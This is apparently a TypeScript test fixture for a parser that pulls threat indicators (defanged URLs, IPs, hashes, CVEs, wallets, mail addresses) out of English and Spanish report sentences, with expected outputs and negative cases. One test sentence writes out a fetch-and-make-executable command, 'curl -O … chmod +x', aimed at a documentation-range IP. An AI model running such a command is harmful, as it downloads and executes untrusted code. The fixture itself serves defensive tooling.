/** One sentence or short text and everything that must come out of it, as `type value`. An empty list is a trap: nothing may come out. */
export type Sentence = { readonly text: string; readonly expected: readonly string[]; readonly own?: readonly string[] };

const md5 = '9e107d9d372bb6826bd81d3542a419d6';
const sha1 = '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12';
const sha256 = 'd7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592';

/** Written for this test, in the two languages of most reports. Attackers here are invented or from documentation ranges. */
export const sentences: readonly Sentence[] = [
  // Defanged in every common way.
  { text: 'Beacons to hxxp://evil-cdn[.]com/gate.php every minute.', expected: ['url http://evil-cdn.com/gate.php'] },
  { text: 'Conecta con hXXps://panel(.)malote(.)ru/x?id=1, según el analista.', expected: ['url https://panel.malote.ru/x?id=1'] },
  { text: 'C2: fxp://files{.}badhost{.}net/drop/', expected: ['url ftp://files.badhost.net/drop/'] },
  {
    text: 'El dominio malo[dot]ejemplo-falso[dot]es resuelve a 203[.]0[.]113[.]7.',
    expected: ['hostname malo.ejemplo-falso.es', 'ip-dst 203.0.113.7'],
  },
  { text: 'IP 198.51.100[.]23, puerto 8080', expected: ['ip-dst 198.51.100.23'] },
  { text: 'hxxps[:]//login-banco[.]top/entrar', expected: ['url https://login-banco.top/entrar'] },
  { text: 'hxxp[://]phish[.]site/a', expected: ['url http://phish.site/a'] },
  { text: 'https[:]//phish2[.]site/a', expected: ['url https://phish2.site/a'] },
  { text: 'hxxp[s]://phish3[.]site/a', expected: ['url https://phish3.site/a'] },
  { text: 'h**p://phish4.site/a and hxtp://phish5.site/b', expected: ['url http://phish4.site/a', 'url http://phish5.site/b'] },
  { text: 'Remitente: facturas[@]pagos-urgentes[.]com', expected: ['email-src facturas@pagos-urgentes.com'] },
  { text: 'Escribe a soporte(at)correo-falso[.]org cuanto antes', expected: ['email soporte@correo-falso.org'] },
  { text: 'admin [at] bad-mail [.] info sent it', expected: ['email admin@bad-mail.info'] },
  { text: 'Host bad\\.actor-site\\.com was seen', expected: ['hostname bad.actor-site.com'] },
  { text: 'Se vio evil [.] example-bad [.] com en los registros', expected: ['hostname evil.example-bad.com'] },
  {
    text: 'evil[.example-half.com and evil.]example-half2.com',
    expected: ['hostname evil.example-half.com', 'hostname evil.example-half2.com'],
  },
  { text: 'Mixed: 192.0[.]2.44 and 192[.]0.2(.)45', expected: ['ip-dst 192.0.2.44', 'ip-dst 192.0.2.45'] },
  { text: 'hxxp://spoken dot evil-dots dot com was used', expected: ['url http://spoken.evil-dots.com/'] },
  { text: 'C2 is evil[.]subzone dot net', expected: ['hostname evil.subzone.net'] },
  { text: 'Traffic to malo\u200b.zero-width.net', expected: ['hostname malo.zero-width.net'] },
  { text: 'IPv6 2001[:]db8[:]0[:]0[:]0[:]0[:]0[:]1 visto', expected: ['ip-dst 2001:db8::1'] },
  { text: 'hxxp://[2001:db8::5]:8080/shell', expected: ['url http://[2001:db8::5]:8080/shell'] },
  { text: 'Visit meow://cats-and-malware[.]club/p', expected: ['url http://cats-and-malware.club/p'] },
  { text: '192.0.2.10[:]4444 abierto', expected: ['ip-dst|port 192.0.2.10|4444'] },

  // Around punctuation, tables and markup.
  { text: 'Seen (http://evil-par.com/a_(b)) twice.', expected: ['url http://evil-par.com/a_(b)'] },
  {
    text: '<http://evil-angle.com/x>; "http://evil-quote.com/y", \'http://evil-single.com/z\'.',
    expected: ['url http://evil-angle.com/x', 'url http://evil-quote.com/y', 'url http://evil-single.com/z'],
  },
  { text: `| 203.0.113.9 | evil-cell.com | ${md5} |`, expected: ['ip-dst 203.0.113.9', 'domain evil-cell.com', `md5 ${md5}`] },
  { text: 'See [the report](https://blog.example.org/post) about it.', expected: ['link https://blog.example.org/post'] },
  { text: '`evil-code.com` y **evil-bold.com**', expected: ['domain evil-code.com', 'domain evil-bold.com'] },
  { text: '¿Has visto evil-question.com? ¡Bloquea 203.0.113.77!', expected: ['domain evil-question.com', 'ip-dst 203.0.113.77'] },
  {
    text: 'http://uno-malo.com/a,http://dos-malo.com/b;http://tres-malo.com/c',
    expected: ['url http://uno-malo.com/a', 'url http://dos-malo.com/b', 'url http://tres-malo.com/c'],
  },
  { text: 'evil-one.com/evil-two.com', expected: ['domain evil-one.com', 'domain evil-two.com'] },
  { text: '«dominio-comillas.es»', expected: ['domain dominio-comillas.es'] },
  { text: 'host=evil-equals.com&ip=203.0.113.5', expected: ['domain evil-equals.com', 'ip-dst 203.0.113.5'] },
  { text: 'Proxy http://user:pass@evil-login.com/p', expected: ['url http://user:pass@evil-login.com/p'] },
  { text: '* 203.0.113.0/24\n* 2001:db8:1::/48', expected: ['ip-dst 203.0.113.0/24', 'ip-dst 2001:db8:1::/48'] },
  { text: 'Escanea desde 203.0.113.1-203.0.113.9', expected: ['ip-dst 203.0.113.1', 'ip-dst 203.0.113.9'] },
  { text: 'curl -O 203.0.113.200/bins/x86; chmod +x x86', expected: ['url http://203.0.113.200/bins/x86'] },
  { text: 'El panel está en panel-malo.top/login', expected: ['url http://panel-malo.top/login'] },
  {
    text: 'Redirige a http://evil-redir.com/?u=http://victim-portal.com/x',
    expected: ['url http://evil-redir.com/?u=http://victim-portal.com/x'],
  },
  { text: 'Descarga de http://evil-dedup.com/x y otra vez hxxp://evil-dedup[.]com:80/x', expected: ['url http://evil-dedup.com/x'] },
  { text: 'El DNS de EVIL-UPPER.COM apunta a evil-upper.com.', expected: ['domain evil-upper.com'] },
  { text: 'Dominio IDN: münchen-bank.de', expected: ['domain xn--mnchen-bank-thb.de'] },
  { text: 'La web ñandú-falso.es suplanta al banco', expected: ['domain xn--and-falso-k6a6h.es'] },

  // Mail.
  {
    text: 'From: "Caja Rural" <avisos@caja-rural-falsa.com>\nTo: victima@ejemplo.es\nSubject: Aviso',
    expected: ['email-src avisos@caja-rural-falsa.com', 'email-dst victima@ejemplo.es'],
  },
  { text: 'Reply-To: otro@mal-correo.net', expected: ['email-reply-to otro@mal-correo.net'] },
  { text: 'Message-ID: <20261101.abc@mail.some-server.com>', expected: [] },
  { text: 'git clone git@github.com:org/tool.git', expected: [] },
  { text: 'Escríbeme a juan.perez+iocs@ejemplo-malo.es.', expected: ['email juan.perez+iocs@ejemplo-malo.es'] },
  { text: 'npm install left-pad@1.2.3', expected: [] },
  { text: 'Gracias @analista por el aviso', expected: [] },

  // Digests and fingerprints.
  { text: `MD5: ${md5} SHA1: ${sha1} SHA-256: ${sha256.toUpperCase()}`, expected: [`md5 ${md5}`, `sha1 ${sha1}`, `sha256 ${sha256}`] },
  { text: `imphash ${md5}`, expected: [`imphash ${md5}`] },
  { text: `JA3: ${md5}`, expected: [`ja3-fingerprint-md5 ${md5}`] },
  { text: `JA4 t13d1516h2_8daaf6152771_b186095e22b6 observado`, expected: ['ja4 t13d1516h2_8daaf6152771_b186095e22b6'] },
  { text: `${sha256}  factura noviembre.pdf.exe`, expected: [`sha256 ${sha256}`, 'filename factura noviembre.pdf.exe'] },
  { text: `key ${sha256}${md5}ab`, expected: [] },
  { text: `commit ${sha1} fixes it`, expected: [] },
  { text: `Cookie: PHPSESSID=${md5}; csrf_token=${md5}`, expected: [] },
  { text: 'GUID d012e64e-09d3-5a9e-6883-b544de93ddbd', expected: [] },
  { text: 'Cuenta 01234567890123456789012345678901', expected: [] },
  { text: 'ffffffffffffffffffffffffffffffff', expected: [] },
  { text: 'MAC 00:1a:2b:3c:4d:5e a las 12:34:56', expected: [] },
  { text: 'EUI-64 00:1a:2b:ff:fe:3c:4d:5e', expected: [] },
  {
    text: 'ssdeep 96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4:sfD1dtHHlNrwciQmA+4uy1I',
    expected: ['ssdeep 96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4:sfD1dtHHlNrwciQmA+4uy1I'],
  },

  // Vulnerabilities, systems, wallets, keys, mutexes.
  { text: 'Explota CVE-2024-3400 y cve_2023-4966.', expected: ['vulnerability CVE-2024-3400', 'vulnerability CVE-2023-4966'] },
  { text: 'CVE\u20112021\u201144228 (Log4Shell)', expected: ['vulnerability CVE-2021-44228'] },
  { text: 'CVE-2024-12 no existe', expected: [] },
  { text: 'Alojado en AS64500 (proveedor pequeño)', expected: ['AS AS64500'] },
  { text: 'El AS400 exporta por AS2 los pedidos', expected: [] },
  { text: 'Rescate a 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa en dos días', expected: ['btc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'] },
  { text: 'Paga a bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', expected: ['btc bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'] },
  { text: 'Referencia 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb', expected: [] },
  {
    text: 'Persists in HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon and reboots.',
    expected: ['regkey HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'],
  },
  { text: 'Crea el mutex "Global\\{A1B2-malo}" al arrancar', expected: ['mutex Global\\{A1B2-malo}'] },
  { text: 'Escribe C:\\Users\\Public\\update.exe y lo lanza', expected: ['filename C:\\Users\\Public\\update.exe'] },
  {
    text: 'Opens \\\\fileserver.corp-example.com\\share\\setup.exe',
    expected: ['filename \\\\fileserver.corp-example.com\\share\\setup.exe'],
  },

  // Files that look like names.
  { text: 'El adjunto invoice.zip contiene un ejecutable', expected: ['filename invoice.zip'] },
  { text: 'Run setup.py, then foo.sh and read README.md', expected: [] },
  { text: 'main.rs, lib.so and query.pl were changed; see notes.md.', expected: [] },
  { text: 'factura.pdf.zip llegó por correo', expected: [] },
  { text: 'Edita config.in y Makefile.am', expected: [] },
  { text: 'The domain get-tool.zip was registered yesterday', expected: ['domain get-tool.zip'] },
  { text: 'Bloquead descargas[.]zip ya', expected: ['domain descargas.zip'] },
  { text: 'A file named command.com or evil.com runs', expected: [] },
  { text: 'rundll32.exe and powershell.exe were abused', expected: [] },
  { text: 'GET /panel/gate.php?f=update.cab HTTP/1.1', expected: [] },

  // Versions, dates, telephones, sections, amounts, code.
  { text: 'Windows 10.0.19041.1 y la versión 1.2.3.4 del agente', expected: [] },
  { text: 'Fixed in v1.2.3.4; firmware 5.6.7.8 and version 9.8.7.6 are affected', expected: [] },
  { text: 'Versiones 7.0.1.2, 7.0.1.3 y 7.0.1.4 vulnerables', expected: [] },
  { text: 'Affects 12.4.2.1 and earlier', expected: [] },
  { text: 'Chrome/120.0.6099.109 Safari/537.36', expected: [] },
  { text: 'El 12.11.2026 a las 10.30 se cerró', expected: [] },
  { text: 'Llama al 91.123.45.67 o al +34 91.123.45.68', expected: [] },
  { text: 'Ver apartado 4.1.2.3 y la figura 2.1.1.1', expected: [] },
  { text: 'OID 1.3.6.1.4.1.311.2.1.21', expected: [] },
  { text: 'Pidieron 1.234.123.200 € de rescate', expected: [] },
  { text: 'System.Net.WebClient and System.IO.File, ASP.NET, Node.js', expected: [] },
  { text: 'user.name = document.location; foo.call(bar.id)', expected: [] },
  { text: 'std::vector and a::b, dead::beef()', expected: [] },
  { text: 'Terminó la reunión.El equipo decidió seguir.No hay más.', expected: [] },
  { text: 'p. ej., etc., e.g. this, i.e. that, U.S. officials, EE.UU.', expected: [] },
  { text: 'It costs 10.50.20 and weighs 1.5.', expected: [] },
  { text: 'He put a dot com on it, and spoke at length at home', expected: [] },
  { text: 'IP 256.1.2.3 o 1.2.3.4.5 o 010.020.030.040 mal escritas', expected: [] },
  { text: 'xmlns="http://schemas.xmlsoap.org/soap/envelope/"', expected: [] },
  { text: 'import os.path; from foo.bar import baz', expected: [] },
  { text: 'a := b.c; x.y.z()', expected: [] },
  { text: 'Reunión a las 10:30:15 en sala B::2', expected: [] },
  { text: 'https:// y http://localhost:3000/api no cuentan', expected: [] },

  // Signatures.
  {
    text: 'Bloquead evil-sig.com\n\nUn saludo,\nAna Pérez\nana@ejemplo-soc.es\nwww.ejemplo-soc.es',
    expected: ['domain evil-sig.com'],
    own: ['ejemplo-soc.es'],
  },
  {
    text: 'C2 203.0.113.66\n-- \nSOC\nhttps://soc.ejemplo-soc.es/contacto\nTel. 91.123.45.67',
    expected: ['ip-dst 203.0.113.66'],
    own: ['ejemplo-soc.es'],
  },
  {
    text: 'Phish against www.ejemplo-soc.es seen at evil-clone.com\n\nRegards,\nBob',
    expected: ['hostname www.ejemplo-soc.es', 'domain evil-clone.com'],
    own: ['ejemplo-soc.es'],
  },
];
